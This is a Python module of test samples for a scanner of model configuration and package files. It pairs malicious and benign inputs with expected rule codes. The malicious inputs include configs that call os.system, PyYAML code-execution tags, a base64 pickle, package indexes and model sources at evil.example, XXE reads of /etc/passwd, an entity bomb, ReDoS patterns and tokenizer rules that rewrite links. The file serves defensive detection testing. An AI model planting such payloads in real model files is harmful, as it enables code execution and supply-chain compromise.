"""Documents: configurations, tokenizers, manifests, requirements, YAML, XML. See run.py."""
import base64
import io
import json
import pathlib
import tarfile
import zipfile

FIXTURES = pathlib.Path(__file__).resolve().parent.parent / "fixtures" / "config"

CODE = ("MDL100", "MDL101")
BESIDE = ("MDL102",)


def dump(value, **kw):
    return json.dumps(value, **kw).encode()


def archive(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


BERT = {
    "architectures": ["BertForMaskedLM"], "attention_probs_dropout_prob": 0.1,
    "hidden_act": "gelu", "hidden_dropout_prob": 0.1, "hidden_size": 768,
    "initializer_range": 0.02, "intermediate_size": 3072, "layer_norm_eps": 1e-12,
    "max_position_embeddings": 512, "model_type": "bert", "num_attention_heads": 12,
    "num_hidden_layers": 12, "pad_token_id": 0, "transformers_version": "4.6.0.dev0",
    "type_vocab_size": 2, "use_cache": True, "vocab_size": 30522}
LLAMA = {
    "architectures": ["LlamaForCausalLM"], "bos_token_id": 128000, "eos_token_id": [128001, 128009],
    "hidden_act": "silu", "hidden_size": 4096, "model_type": "llama", "rms_norm_eps": 1e-05,
    "rope_scaling": {"factor": 8.0, "rope_type": "llama3"}, "torch_dtype": "bfloat16",
    "transformers_version": "4.43.0.dev0", "vocab_size": 128256,
    "_name_or_path": "/home/user/out/llama"}
GPT4 = (r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*"
        r"|\s*[\r\n]+|\s+(?!\S)|\s+")


def added(number, content):
    return {"id": number, "content": content, "single_word": False, "lstrip": False,
            "rstrip": False, "normalized": False, "special": True}


def tokenizer(**parts):
    value = {"version": "1.0", "truncation": None, "padding": None,
             "added_tokens": [added(0, "<unk>"), added(1, "<s>"), added(2, "</s>")],
             "normalizer": {"type": "Sequence", "normalizers": [
                 {"type": "Prepend", "prepend": "\u2581"},
                 {"type": "Replace", "pattern": {"String": " "}, "content": "\u2581"}]},
             "pre_tokenizer": {"type": "Split", "pattern": {"Regex": GPT4},
                               "behavior": "Isolated", "invert": False},
             "post_processor": {"type": "TemplateProcessing", "single": [
                 {"SpecialToken": {"id": "<s>", "type_id": 0}},
                 {"Sequence": {"id": "A", "type_id": 0}}]},
             "decoder": {"type": "Sequence", "decoders": [
                 {"type": "Replace", "pattern": {"String": "\u2581"}, "content": " "},
                 {"type": "ByteFallback"}, {"type": "Fuse"},
                 {"type": "Strip", "content": " ", "start": 1, "stop": 0}]},
             "model": {"type": "BPE", "dropout": None, "unk_token": "<unk>",
                       "vocab": {"<unk>": 0, "<s>": 1, "</s>": 2, "\u2581the": 3, "import": 4,
                                 "_target_": 5, "auto_map": 6, "eval": 7, "os": 8, "$": 9},
                       "merges": ["t h", "th e", "\u2581 the"]}}
    value.update(parts)
    return value


PIPELINE = {
    "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6.0",
    "feature_extractor": ["transformers", "CLIPImageProcessor"],
    "requires_safety_checker": True,
    "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
    "scheduler": ["diffusers", "PNDMScheduler"],
    "text_encoder": ["transformers", "CLIPTextModel"],
    "tokenizer": ["transformers", "CLIPTokenizer"],
    "unet": ["diffusers", "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"],
    "image_encoder": [None, None]}

MLMODEL = """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.10.12
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.3.0
mlflow_version: 2.9.2
model_uuid: 0a1b2c3d4e5f
utc_time_created: '2024-01-02 03:04:05.000006'
"""

PMML = """<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="x"><Extension name="user" value="ann" extender="Rattle/PMML"/>
    <Application name="SkLearn2PMML" version="0.99"/></Header>
  <DataDictionary numberOfFields="1">
    <DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="2"/></RegressionTable>
  </RegressionModel>
</PMML>
"""

MANIFEST = {"createdOn": "01/01/2024 00:00:00", "runtime": "python",
            "model": {"modelName": "resnet", "serializedFile": "resnet.pt",
                      "handler": "image_classifier", "modelVersion": "1.0"},
            "archiverVersion": "0.9.0"}


def hydra(name, **args):
    return dump({"model": {"_target_": name, **args}})


def bad_names():
    yield "hydra.json", hydra("os.system", command="id"), CODE, "Hydra calls it"
    yield "hydra.yaml", b"model:\n  _target_: os.system\n  command: id\n", CODE, "the same in YAML"
    yield ("escaped.json", b'{"m": {"\\u005f\\u0074arget_": "\\u006fs.system"}}', CODE,
           "escapes in key and name")
    yield "anchor.yaml", b"t: &t os.system\nm:\n  _target_: *t\n", CODE, "the name by an anchor"
    yield ("anchors.yaml", b"".join(b"k%d: &a%d v\n" % (i, i) for i in range(600))
           + b"t: &float os.system\nm:\n  _target_: *float\n", CODE, "the last of many anchors")
    yield ("crowd.yaml", b"".join(b"k%d: &a%d v\n" % (i, i) for i in range(5000))
           + b"t: &float os.system\nm:\n  _target_: *float\n", CODE + ("ENG002",),
           "more anchors than anybody keeps")
    yield ("again.yaml", b"a: &t torch.nn.Linear\nb: &t os.system\nm:\n  _target_: *t\n", CODE,
           "an anchor given again")
    yield ("merge.yaml", b"a: &a\n  _target_: builtins.exec\nb:\n  <<: *a\n  code: x\n", CODE,
           "a merged key")
    yield "flow.yaml", b"{m: {? _target_\n: os.system}}\n", CODE, "an explicit key in a flow"
    yield ("method.json", hydra("hydra.utils.get_method", path="os.system"), CODE,
           "a function that takes the name as an argument")
    yield "colon.json", hydra("subprocess:run"), CODE, "a colon in place of a dot"
    yield "list.json", dump([[{"x": [{"_target_": "shutil.rmtree"}]}]]), CODE, "below lists"
    yield ("twice.json", b'{"m": {"_target_": "os.system", "_target_": "torch.nn.ReLU"}}',
           (*CODE, "MDL253"), "a key given twice: the first")
    yield ("twice2.json", b'{"m": {"_target_": "torch.nn.ReLU", "_target_": "os.system"}}',
           (*CODE, "MDL253"), "a key given twice: the last")
    yield "bom.json", b"\xef\xbb\xbf" + hydra("os.system"), CODE, "a byte order mark"
    yield ("utf16.json", b"\xff\xfe" + '{"_target_": "os.system"}'.encode("utf-16-le"), CODE,
           "UTF-16")
    yield ("comment.json", b'// a comment\n{"_target_": "os.system",}', (*CODE, "MDL074"),
           "JSON with comments: some loaders take it")
    yield "single.json", b"{'_target_': 'os.system'}", (*CODE, "MDL074"), "Python's quotes"
    yield ("computed.yaml", b"m:\n  _target_: ${oc.env:TARGET}\n", CODE, "the name is computed")
    yield ("eval.yaml", b"lr: ${eval:'__import__(\"os\").system(\"id\")'}\n", ("MDL251",),
           "a resolver that evaluates")
    yield ("ldm.yaml", b"model:\n  target: os.system\n  params: {command: id}\n", CODE,
           "target and params, as latent diffusion has them")
    yield ("lightning.yaml", b"trainer:\n  callbacks:\n  - class_path: subprocess.Popen\n"
           b"    init_args: {args: id}\n", CODE, "jsonargparse")
    yield ("pickle.json", dump({"py/reduce": [{"py/function": "os.system"},
                                              {"py/tuple": ["id"]}]}), CODE, "jsonpickle")
    yield "object.json", dump({"py/object": "subprocess.Popen", "args": "id"}), CODE, "jsonpickle"
    yield "repr.json", dump({"py/repr": "os/os.system('id')"}), ("MDL251",), "jsonpickle evaluates"
    yield ("hyper.yaml", b"a: !apply:os.system [id]\nb: !new:subprocess.Popen {args: id}\n", CODE,
           "HyperPyYAML")
    yield ("deep.json", b'{"a":' * 900 + b'{"_target_":"os.system"}' + b"}" * 900, CODE,
           "nested 900 deep")
    yield ("deeper.json", b"[" * 5000 + b'{"_target_":"os.system"}' + b"]" * 5000, (),
           "nested deeper than any loader reads")


def bad_hub():
    remote = dict(BERT, auto_map={"AutoModel": "someone/other--modeling.Net"})
    yield ("map.json", dump(dict(BERT, auto_map={"AutoConfig": "configuration_x.XConfig"})), BESIDE,
           "code beside the model")
    yield "elsewhere.json", dump(remote), ("MDL103",), "code of another repository"
    yield ("tokenizer_config.json",
           dump({"tokenizer_class": "XTok", "auto_map": {"AutoTokenizer": ["tok.XTok", None]}}),
           BESIDE, "a list in auto_map")
    yield ("hidden.json", dump({"text_config": {"deep": [dict(BERT, auto_map={"AutoModel": "m.C"})]}}),
           BESIDE, "auto_map far below")
    yield ("trust.json", dump(dict(BERT, trust_remote_code=True)), ("MDL250",), "remote code allowed")
    yield ("pipelines.json", dump(dict(BERT, custom_pipelines={
        "x": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}})), BESIDE, "a pipeline of its own")
    yield ("model_index.json", dump(dict(PIPELINE, unet=["my_unet", "Net"])), (*CODE, *BESIDE),
           "a library that is a file beside")
    yield ("sd/model_index.json", dump(dict(PIPELINE, unet=["os", "system"])), CODE,
           "a library that is a module of Python's")
    yield ("modules.json", dump([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Net"}]),
           CODE, "a module of sentence-transformers that is none of its own")
    yield ("peft.json", dump({"peft_type": "LORA", "auto_mapping": {
        "base_model_class": "system", "parent_library": "os"}}), CODE, "PEFT imports the module")
    yield ("attention.json", dump(dict(BERT, _attn_implementation="someone/kernel")), ("MDL103",),
           "compiled code of another repository")
    yield ("program.json", dump(dict(BERT, hidden_act="__import__('os').system('id')")),
           ("MDL251",), "a program where a name belongs")
    yield ("pickled.json", dump(dict(BERT, state=base64.b64encode(
        b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
        b"                ").decode())), (), "a pickle in base64")
    yield ("tc/tokenizer_config.json", dump({"tokenizer_class": "T", "added_tokens_decoder": {
        "5": {"content": "a\u202eb"}}}), ("MDL258",), "a hidden token")
    yield ("bentofile.yaml", b"service: 'service:svc'\ninclude: ['*.py']\n", BESIDE, "BentoML")
    yield "config.json", b'{"model_type": "bert", "auto_map": {"AutoModel": "m.C"', (), "broken"


def bad_tokenizers():
    yield ("t1.json", dump(tokenizer(added_tokens=[added(0, "<s>"), added(0, "</s>")])),
           ("MDL259",), "two tokens of one number")
    yield ("t2.json", dump(tokenizer(added_tokens=[added(0, "")])), ("MDL258",), "an empty token")
    yield ("t3.json", dump(tokenizer(added_tokens=[added(0, "x" * 9000)])), ("MDL258",), "huge")
    yield ("t4.json", dump(tokenizer(added_tokens=[added(0, "user\u202e nimda")])), ("MDL258",),
           "a token that turns the text round")
    yield ("t5.json", dump(tokenizer(pre_tokenizer={
        "type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated"})), ("MDL261",),
        "a pattern that takes for ever")
    yield ("t6.json", dump(tokenizer(pre_tokenizer={
        "type": "Split", "pattern": {"Regex": r"(?:\w|\d)*|(?:[a-z]*)*b"}})), ("MDL261",),
        "the same by classes")
    yield ("t7.json", dump(tokenizer(normalizer={"type": "Replace",
           "pattern": {"String": "https://bank.example"}, "content": "https://evil.example"})),
           ("MDL260",), "a link becomes another")
    yield ("t8.json", dump(tokenizer(decoder={"type": "Sequence", "decoders": [
        {"type": "Replace", "pattern": {"Regex": "\\bnot\\b"}, "content": "certainly"}]})),
        ("MDL260",), "answers are rewritten")
    yield ("t9.json", dump(tokenizer())[:-1] + b', "added_tokens": []}', ("MDL253",),
           "the added tokens twice")


def bad_yaml():
    for name, text in {
            "apply": "!!python/object/apply:os.system [id]",
            "verbatim": "!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
            "handle": "%TAG !p! tag:yaml.org,2002:python/\n--- !p!object/apply:os.system [id]",
            "redefined": "%TAG !! tag:yaml.org,2002:python/\n--- !!object/new:os.system [id]",
            "percent": "!!python%2Fobject%2Fapply:os.system [id]",
            "key": "? !!python/object/apply:os.system [id]\n: 1",
            "second": "a: 1\n---\nb: !!python/object/apply:os.system [id]",
            "js": "a: !!js/function 'function(){}'",
            "java": "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]",
            "ruby": "a: !ruby/object:Gem::Installer {}",
            "module": "a: !!python/module:os ''"}.items():
        yield name + ".yaml", text.encode() + b"\n", ("MDL071",), "PyYAML tags: " + name
    yield "lambda.yaml", b"a: !eval 'import os'\n", ("MDL251",), "a tag that evaluates"
    yield ("broken.yaml", b"a: [1\nb: !!python/object/apply:os.system [id]\n", ("MDL071",),
           "does not parse here, may elsewhere")


def bad_packages():
    yield ("MLmodel", MLMODEL.replace("mlflow.sklearn", "os").encode(), CODE, "another loader")
    yield ("m2/MLmodel", MLMODEL.replace("code: null", "code: code").encode(), BESIDE,
           "code on the import path")
    yield ("m3/MLmodel", MLMODEL.replace("model_path: model.pkl", "model_path: ../../x.pkl").encode(),
           ("MDL104",), "a path that leaves")
    manifest = json.loads(json.dumps(MANIFEST))
    manifest["model"]["handler"] = "handler.py"
    yield ("a.mar", archive({"MAR-INF/MANIFEST.json": dump(manifest), "handler.py": b"x = 1\n"}),
           BESIDE, "a handler of its own")
    manifest["model"].update(handler="text_classifier", serializedFile="../../etc/x.pt")
    yield ("b.mar", archive({"MAR-INF/MANIFEST.json": dump(manifest)}), ("MDL104",), "a path out")
    yield ("x.nemo", tar({"./model_config.yaml": b"target: os.system\nnemo_version: 1.2\n",
                          "./model_weights.ckpt": b""}), CODE, "NeMo's target")
    yield ("requirements.txt", b"torch==2.1\n--index-url http://pypi.evil.example/simple\n",
           ("MDL257",), "an index over http")
    yield ("r2/requirements.txt", b"numpy @ http://evil.example/numpy.whl\n", ("MDL257",), "a wheel")
    yield ("r3/requirements.txt", b"--extra-index-url=https://pypi.evil.example/simple\nx\n",
           ("MDL256",), "another index")
    yield ("r4/requirements.txt", b"git+https://git.example/x.git@main#egg=x\n", ("MDL256",),
           "a branch")
    yield "r5/requirements.txt", b"-r ../../other.txt\n", ("MDL104",), "a file outside"
    yield ("conda.yaml", b"channels: [defaults]\ndependencies:\n- python=3.10\n- pip:\n"
           b"  - x @ https://evil.example/x.whl\n", ("MDL256",), "pip inside conda")
    yield "Modelfile", b"FROM http://evil.example/m.gguf\n", ("MDL106",), "a model from an address"
    yield ("config.pbtxt", b'name: "x"\nbackend: "python"\n', BESIDE, "Triton runs model.py")


def bad_xml():
    head, tail = PMML.split("<PMML", 1)
    doctype = lambda s: (head + s + "<PMML" + tail).encode()
    yield ("x1.pmml", doctype('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
           ("MDL262",), "an external entity")
    yield ("x2.xml", doctype('<!DOCTYPE PMML SYSTEM "http://evil.example/x.dtd">'), ("MDL262",),
           "an external subset")
    yield ("x3.pmml", doctype('<!DOCTYPE PMML [<!ENTITY % x PUBLIC "a" "http://e.example/"> %x;]>'),
           ("MDL262",), "a parameter entity")
    bomb = '<!ENTITY a "' + "x" * 100 + '">' + "".join(
        '<!ENTITY %s "%s">' % (c, ("&%s;" % chr(ord(c) - 1)) * 10) for c in "bcdefghi")
    yield "x4.pmml", doctype("<!DOCTYPE PMML [" + bomb + "]>"), ("MDL263",), "a billion laughs"
    yield ("x5.pmml", PMML.replace("<RegressionModel", '<Apply function="java.lang.Runtime.exec"/>'
                                   "<RegressionModel", 1).encode(), ("MDL264",), "a class of Java's")
    yield ("x6.pmml", PMML.replace('value="ann"', 'value="java.lang.ProcessBuilder"').encode(),
           ("MDL264",), "an extension that names code")
    yield "x7.pmml", PMML[:-20].encode(), (), "cut short"
    yield ("x8.pmml", b"\xff\xfe" + doctype(
        '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>').decode().encode("utf-16-le"),
        ("MDL262",), "UTF-16")
    yield ("x9.pmml", PMML.replace("UTF-8", "UTF-7").encode(), (), "an encoding that hides markup")


def bad():
    for part in (bad_names, bad_hub, bad_tokenizers, bad_yaml, bad_packages, bad_xml):
        yield from part()


def good_hub():
    yield "config.json", dump(BERT, indent=2), (), "BERT"
    yield "llama/config.json", dump(LLAMA, indent=2), (), "Llama, with a path of its maker's"
    yield ("quant.json", dump(dict(LLAMA, quantization_config={
        "bits": 4, "quant_method": "gptq", "desc_act": False})), (), "quantised")
    yield ("null.json", dump(dict(BERT, auto_map=None, trust_remote_code=False)), (),
           "keys that are switched off")
    yield ("generation_config.json", dump({"bos_token_id": 1, "eos_token_id": 2, "temperature": 0.6,
                                           "transformers_version": "4.40.0"}), (), "generation")
    yield ("preprocessor_config.json", dump({"feature_extractor_type": "WhisperFeatureExtractor",
                                             "processor_class": "WhisperProcessor",
                                             "sampling_rate": 16000}), (), "Whisper")
    yield ("special_tokens_map.json", dump({"bos_token": {"content": "<s>", "lstrip": False},
                                            "pad_token": "<pad>"}), (), "special tokens")
    yield "model_index.json", dump(PIPELINE, indent=2), (), "Stable Diffusion"
    yield ("modules.json", dump([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling",
         "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_Normalize",
         "type": "sentence_transformers.models.Normalize"}]), (), "sentence-transformers")
    yield ("1_Pooling/config.json", dump({"word_embedding_dimension": 384,
                                          "pooling_mode_mean_tokens": True}), (), "pooling")
    yield ("adapter_config.json", dump({
        "auto_mapping": None, "base_model_name_or_path": "/data/models/llama-7b",
        "peft_type": "LORA", "r": 8, "target_modules": ["q_proj", "v_proj"],
        "task_type": "CAUSAL_LM"}), (), "an adapter, with a path of its maker's")
    yield ("peft.json", dump({"peft_type": "LORA", "auto_mapping": {
        "base_model_class": "LlamaForCausalLM",
        "parent_library": "transformers.models.llama.modeling_llama"}}), (), "PEFT's own mapping")
    yield ("attention.json", dump(dict(LLAMA, _attn_implementation="flash_attention_2")), (),
           "an implementation of the library's")
    yield ("gavel.json", dump({"text": ["gAzette of the day, a word of many letters", "gA" * 40]}),
           (), "texts that start as a pickle would in base64")
    yield ("service.yaml", b"services:\n  web: {image: 'a:1'}\nservice: 'x:y'\n", (),
           "a service that is no program's")
    yield ("vocab.json", dump({"eval": 1, "os.system": 2, "_target_": 3, "__import__": 4,
                               "auto_map": 5, "chat_template": 6, "target": 7}), (),
           "words of a vocabulary")
    yield ("tokenizer_config.json", dump({
        "tokenizer_class": "LlamaTokenizer", "model_max_length": 1000000000000000019884624838656,
        "added_tokens_decoder": {"0": {"content": "<unk>", "special": True}},
        "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}), (),
        "a chat template")


def good_others():
    yield "tokenizer.json", dump(tokenizer()), (), "a tokenizer"
    yield ("gpt2/tokenizer.json", dump(tokenizer(
        pre_tokenizer={"type": "ByteLevel", "add_prefix_space": False, "use_regex": True},
        normalizer={"type": "NFC"}, decoder={"type": "ByteLevel"},
        added_tokens=[added(50256, "<|endoftext|>")])), (), "byte level")
    yield ("bert/tokenizer.json", dump(tokenizer(
        normalizer={"type": "BertNormalizer", "lowercase": True},
        pre_tokenizer={"type": "BertPreTokenizer"},
        added_tokens=[added(0, "[PAD]"), added(100, "[UNK]"), added(101, "[CLS]")],
        model={"type": "WordPiece", "vocab": {"[PAD]": 0, "import": 1}})), (), "word pieces")
    yield ("t5.json", dump(tokenizer(normalizer={"type": "Sequence", "normalizers": [
        {"type": "Precompiled", "precompiled_charsmap": "AAAA"},
        {"type": "Replace", "pattern": {"Regex": " {2,}"}, "content": "\u2581"}]},
        pre_tokenizer={"type": "Split", "pattern": {"Regex": r"(?:\s+\w)+|(?:ab)+|[^\s(a+)]+"}})),
        (), "patterns that repeat without exploding")
    yield ("hydra.yaml", b"optimizer:\n  _target_: torch.optim.AdamW\n  lr: 1.0e-4\n"
           b"net:\n  _target_: torch.nn.Linear\n  in_features: ${dim}\nname: ${now:%Y}\n", (),
           "Hydra builds parts")
    yield ("ldm.yaml", b"model:\n  target: torch.nn.Linear\n  params: {in_features: 1}\n"
           b"target: es2020\nbuild: {target: dist.js}\n", (), "target, of all kinds")
    yield ("cloud.yaml", b"Resources:\n  a: !Ref b\n  c: !GetAtt d.e\n  f: !Sub '${x}'\n"
           b"  g: !secret h\n", (), "tags of CloudFormation")
    yield ("tuple.yaml", b"a: !!python/tuple [1, 2]\nb: !!set {x}\nc: !!binary aGk=\n", (),
           "tags of plain data")
    yield ("quoted.yaml", b"note: '!!python/object/apply:os.system'\ntext: |\n"
           b"  !!python/object/apply:os.system [id]\n  _target_: os.system\n", (), "words in texts")
    yield ("README.md", b"Use `_target_: os.system` and never\n!!python/object/apply:os.system\n", (),
           "documentation")
    yield "MLmodel", MLMODEL.encode(), (), "MLflow, scikit-learn"
    yield ("resnet.mar", archive({"MAR-INF/MANIFEST.json": dump(MANIFEST),
                                  "index_to_name.json": b'{"0": "cat"}'}), (), "a default handler")
    yield ("asr.nemo", tar({"./model_config.yaml":
           b"target: nemo.collections.asr.models.EncDecCTCModel\nnemo_version: 1.2\n"
           b"tokenizer: {dir: null, model_path: 'nemo:abc_tokenizer.model'}\n"
           b"encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"}), (), "NeMo")
    yield ("requirements.txt", b"# pinned\ntorch==2.1.0\ntransformers>=4.30,<5\n"
           b"--extra-index-url https://download.pytorch.org/whl/cu118\n"
           b"git+https://github.com/x/y@0123456789abcdef0123456789abcdef01234567\n"
           b"numpy==1.26 --hash=sha256:00\n"
           b"certifi @ file:///croot/certifi_1671487769961/croot/certifi\n", (),
           "ordinary requirements")
    yield ("conda.yaml", b"channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip<=23\n- pip:\n"
           b"  - mlflow==2.9.2\n  - scikit-learn==1.3.0\nname: mlflow-env\n", (), "conda")
    yield "Modelfile", b"FROM llama3:8b\nPARAMETER temperature 0.7\n", (), "Ollama"
    yield ("config.pbtxt", b'name: "x"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\n', (),
           "Triton")
    yield "model.pmml", PMML.encode(), (), "PMML"
    yield ("entity.pmml", PMML.replace("<PMML", '<!DOCTYPE PMML [<!ENTITY a "b">]>\n<PMML', 1)
           .replace('"x">', '"&a;">', 1).encode(), (), "an entity that is harmless")
    yield ("tsconfig.json", b'{\n  // comment\n  "compilerOptions": {"target": "es2020"},\n}\n', (),
           "JSON with comments")
    yield ("compose.yaml", b"services:\n  a:\n    image: ${IMAGE:-x}\n    user: ${UID:?no}\n", (),
           "a shell's variables")


def good_fixtures():
    """Written by transformers and tokenizers: tests/fixtures/make_config.py."""
    for path in sorted(FIXTURES.glob("*/*.json")):
        yield ("%s/%s" % (path.parent.name, path.name), path.read_bytes(), (), "a real one")


def good():
    yield from good_hub()
    yield from good_others()
    yield from good_fixtures()
